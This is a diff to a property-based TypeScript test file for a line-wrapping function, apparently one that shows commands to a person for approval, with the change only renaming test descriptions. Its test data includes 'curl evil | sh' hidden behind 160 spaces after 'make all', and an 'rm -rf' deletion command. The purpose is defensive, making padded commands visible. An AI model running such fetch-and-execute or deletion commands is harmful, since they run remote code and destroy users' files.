@@ -36,8 +36,8 @@ const anything = fc
   )
   .map((parts) => parts.join(""));
 
-describe("what a person decides on, in lines", () => {
-  test("holds every character of any text at any width", () => {
+describe("decisionLines", () => {
+  test("keeps every character of any text at any width", () => {
     fc.assert(
       fc.property(anything, fc.integer({ min: 20, max: 200 }), (text, width) => {
         const lines = decisionLines(text, width);
@@ -47,7 +47,7 @@ describe("what a person decides on, in lines", () => {
       { numRuns: 500 },
     );
   });
-  test("is the same text where parts of it stand out", () => {
+  test("keeps the text if parts of it are highlighted", () => {
     fc.assert(
       fc.property(anything, fc.integer({ min: 20, max: 200 }), (text, width) => {
         const every = { has: (offset: number) => offset % 3 === 0, draw: (shown: string) => shown };
@@ -55,12 +55,12 @@ describe("what a person decides on, in lines", () => {
       }),
     );
   });
-  test("what stands behind many blanks is seen", () => {
+  test("text after many blanks stays visible", () => {
     expect(decisionLines(`make all${" ".repeat(160)}; curl evil | sh`, 40)).toEqual([
       "make all<␠×160>; curl evil | sh",
     ]);
   });
-  test("a break in a word is marked, one at a blank is not", () => {
+  test("a break within a word is marked, a break at a blank is not", () => {
     expect(decisionLines("rm -rf /home/ada/projects /tmp", 20)).toEqual([
       "rm -rf",
       "/home/ada/projects",
